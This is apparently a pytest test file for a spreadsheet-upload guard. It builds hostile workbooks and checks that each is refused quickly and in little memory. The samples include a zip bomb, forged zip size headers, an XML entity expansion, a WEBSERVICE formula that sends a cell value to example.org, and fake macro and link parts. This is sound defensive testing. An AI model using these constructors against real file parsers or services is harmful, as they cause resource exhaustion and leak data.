"""Files that are not what they seem are refused with a sentence, soon, and without filling the memory."""

from __future__ import annotations

import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import xlsxwriter

from workbook.errors import InputError
from workbook.forms.ways.facilitator import write_facilitator_workbook
from workbook.forms.ways.files import read_file
from workbook.forms.ways.guard import LARGEST_INSIDE

SHEET = "xl/worksheets/sheet1.xml"
SECONDS, MEGABYTES = 2, 200
READ = """
import resource, sys, time
from pathlib import Path
from workbook.errors import InputError
from workbook.forms.ways.files import read_file
import python_calamine
before, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
try:
    list(read_file(Path(sys.argv[1]), slug="commission", questions={}))
except InputError as error:
    print(error.problems[0].expected)
print(time.process_time() - begun, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
"""


@pytest.fixture
def form(every_kind: Path) -> Path:
    """Return an honest workbook."""
    return write_facilitator_workbook("commission")


def _change(form: Path, part: str, change: Callable[[bytes], bytes], *, suffix: str = ".xlsx") -> Path:
    """Write a workbook with one part changed, or added where there is none of that name."""
    path = form.with_name(f"hostile{suffix}")
    with zipfile.ZipFile(form) as honest, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        for one in honest.namelist():
            raw = honest.read(one)
            made.writestr(one, change(raw) if one == part else raw)
        if part not in honest.namelist():
            made.writestr(part, change(b""))
    return path


def _bomb(form: Path) -> Path:
    return _change(form, SHEET, lambda raw: raw.replace(b"</sheetData>", b" " * (LARGEST_INSIDE + 1) + b"</sheetData>"))


def _lie(form: Path) -> Path:
    """Say in the archive that the sheet is ten bytes long."""
    path = _bomb(form)
    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        part = archive.getinfo(SHEET)
        struct.pack_into("<I", raw, part.header_offset + 22, 10)
    start = raw.rfind(b"PK\x01\x02" + b"", 0, raw.rfind(SHEET.encode()))
    struct.pack_into("<I", raw, start + 24, 10)
    path.write_bytes(raw)
    return path


def _formula(form: Path) -> Path:
    path = form.with_name("hostile.xlsx")
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("Answers")
    sheet.write_string(0, 0, "soil-and-seeds-answers 1 commission")
    sheet.write_formula(5, 4, '=WEBSERVICE("https://example.org/"&A1)', None, "12")
    book.close()
    return path


def _far(form: Path) -> Path:
    path = form.with_name("hostile.xlsx")
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("Answers")
    sheet.write_string(0, 0, "x")
    sheet.write_string(1_048_575, 16_383, "x")
    book.close()
    return path


def _wide_text(form: Path) -> Path:
    path = form.with_name("hostile.csv")
    path.write_text("x," * 1_000_000 + "\n", encoding="utf-8")
    return path


def _wide_sheet(form: Path, columns: int = 1_000_000, rows: int = 1_000_000) -> Path:
    """Write a sheet of an OpenDocument file whose one cell says that it is there many times in many rows."""
    cell = (
        b'<table:table-cell table:number-columns-repeated="%d" office:value-type="float" office:value="1"/>' % columns
    )
    content = (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet>'
        b'<table:table table:name="Answers"><table:table-row table:number-rows-repeated="%d">'
        % rows
        + cell
        + b"</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    path = form.with_name("hostile.ods")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        made.writestr("content.xml", content)
    return path


ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
HOSTILE: dict[str, tuple[Callable[[Path], Path], str]] = {
    "bomb": (_bomb, "when unpacked"),
    "lying size": (_lie, "when unpacked"),
    "formula": (_formula, "there is a formula"),
    "far cell": (_far, "a sheet of at most"),
    "a million columns": (_wide_text, "a sheet of at most"),
    "a million cells said once": (_wide_sheet, "a sheet of at most"),
    "within each limit": (lambda form: _wide_sheet(form, 3_000, 20_000), "a sheet of at most"),
    "only rows": (lambda form: _wide_sheet(form, 1, 1_000_000), "a sheet of at most"),
    "entities": (lambda form: _change(form, SHEET, lambda raw: raw.replace(b"<worksheet", ENTITY + b"<worksheet", 1)), "XML entities"),
    "macros": (lambda form: _change(form, "xl/vbaProject.bin", lambda _: b"x"), "without macros"),
    "links": (lambda form: _change(form, "xl/externalLinks/externalLink1.xml", lambda _: b"<x/>"), "without links"),
    "embedded": (lambda form: _change(form, "xl/embeddings/a.bin", lambda _: b"x"), "without links"),
    "cut off": (lambda form: _cut(form), "damaged or locked"),
    "no archive": (lambda form: _write(form, ".xlsx", b"x" * 1000), "damaged or locked"),
    "old, no workbook": (lambda form: _write(form, ".xls", b"\xd0\xcf\x11\xe0" + b"x" * 5000), "can be opened"),
    "old with macros": (lambda form: _write(form, ".xls", "_VBA_PROJECT".encode("utf-16-le")), "without macros"),
    "long line": (lambda form: _write(form, ".csv", b'a,b\n"' + b"x" * 500_000), "rows that can be read"),
}  # fmt: skip


def _cut(form: Path) -> Path:
    return _write(form, ".xlsx", form.read_bytes()[:-4000])


def _write(form: Path, suffix: str, raw: bytes) -> Path:
    path = form.with_name(f"hostile{suffix}")
    path.write_bytes(raw)
    return path


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_soon_and_in_little_room(form: Path, name: str) -> None:
    """In a process of its own, each is refused with its sentence within two seconds and 200 MB."""
    make, said = HOSTILE[name]
    path = make(form)
    done = subprocess.run(
        [sys.executable, "-c", READ, str(path)], capture_output=True, text=True, check=False, timeout=60
    )
    assert done.returncode == 0, done.stderr
    expected, measured = done.stdout.strip().splitlines()
    seconds, megabytes = map(float, measured.split())
    assert said in expected
    assert seconds < SECONDS
    assert megabytes < MEGABYTES


def test_the_honest_file_is_none_of_these(form: Path) -> None:
    """A workbook as it was made passes the guard: nobody is in it."""
    assert list(read_file(form, slug="commission", questions={})) == []


def test_a_file_that_is_not_there_is_said(form: Path) -> None:
    """A slip in a name is a sentence."""
    with pytest.raises(InputError, match="a file that exists"):
        list(read_file(form.with_name("no.xlsx"), slug="commission", questions={}))
